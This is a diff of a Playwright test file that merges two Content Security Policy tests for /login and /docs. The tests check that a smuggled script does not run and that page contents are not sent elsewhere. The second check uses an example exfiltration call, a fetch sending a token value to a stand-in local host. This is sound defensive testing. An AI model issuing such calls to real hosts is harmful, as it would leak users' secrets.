@@ -34,7 +34,7 @@ test.describe("an attack", () => {
   test.use({ expectedMessages: [/^error: (.*(Content Security Policy|TrustedHTML|TrustedScript)|Failed to load)/] });
 
   for (const path of ["/login", "/docs"]) {
-    test(`a script smuggled into ${path} does not run`, async ({ page }) => {
+    test(`a script smuggled into ${path} does not run, and what it holds is not sent elsewhere`, async ({ page }) => {
       const seen = await violations(page);
       await page.goto(path);
       await page.evaluate(() => {
@@ -49,10 +49,6 @@ test.describe("an attack", () => {
       });
       expect(await page.evaluate(() => "smuggled" in window)).toBe(false);
       expect((await seen()).length).toBeGreaterThan(0);
-    });
-
-    test(`what ${path} holds is not sent elsewhere`, async ({ page }) => {
-      await page.goto(path);
       const sent = await page.evaluate(() =>
         fetch("http://127.0.0.1:9/?token=x", { mode: "no-cors" }).then(
           () => true,
